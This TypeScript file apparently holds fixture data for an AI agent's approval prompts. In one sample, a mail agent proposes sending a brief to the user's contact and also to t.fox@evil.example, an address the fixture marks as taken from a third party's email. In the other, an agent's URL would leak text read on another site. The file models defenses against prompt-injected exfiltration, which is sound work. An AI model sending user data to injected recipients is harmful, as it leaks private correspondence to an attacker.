import { APPROVAL_LIFETIME_MS, type Approval } from '#lib/core/approval.ts';
import { LEDGER, MAIL } from './labels.ts';

const body = `Hello Mira,

here is the brief on heat pumps. Two of the three sources put the running cost below gas at the present tariff; the Ledger does not, because it counts the loan.

The grants page changed in March. The old figure of 40 % no longer holds for houses built before 1978.

I have left the table out; it is in the report.

Best
Jo`;

export const sendApproval = (now: number): Approval => ({
  ...{ id: 'ap-send', run: 'run-asking', root: 'run-asking', agent: 'correspondent@1.0.0', call: 'c5', tool: 'send' },
  ...{
    capability: 'mail',
    effect: 'send',
    site: MAIL,
    headline: 'Send to mira@example.org and one person outside your contacts',
  },
  payload: { to: ['mira@example.org', 't.fox@evil.example'], cc: [], bcc: [], subject: 'Heat pumps: brief', body },
  reasons: ['One address was not written by you and is not in your contacts.'],
  controls: [
    { name: 'to', value: 'mira@example.org', from: 'user', words: 'written by you' },
    {
      name: 'to',
      value: 't.fox@evil.example',
      from: 'site',
      words: 'came from the mail by "T. Fox"',
      url: `${MAIL}/message/7`,
    },
  ],
  editable: ['subject', 'body'],
  scopes: ['once', 'run', 'always'],
  verbs: { allow: 'Send', refuse: "Don't send" },
  createdAt: now - 60_000,
  expiresAt: now + APPROVAL_LIFETIME_MS,
});

export const openApproval = (now: number): Approval => ({
  ...{ id: 'ap-open', run: 'run-asking', root: 'run-asking', agent: 'researcher@1.0.0', call: 'c6', tool: 'navigate' },
  ...{ capability: 'read', effect: 'send', site: LEDGER, headline: 'Go to an address on ledger.example' },
  payload: { tab: 12, url: `${LEDGER}/search?q=heat+pumps+tariff+house+14` },
  reasons: ['The address carries text that was read on news.example, and ledger.example would see it.'],
  controls: [
    {
      name: 'url',
      value: `${LEDGER}/search?q=heat+pumps+tariff+house+14`,
      from: 'agent',
      words: 'written by the agent',
    },
  ],
  editable: [],
  scopes: ['once'],
  verbs: { allow: 'Go there', refuse: "Don't go" },
  createdAt: now - 20_000,
  expiresAt: now + APPROVAL_LIFETIME_MS,
});
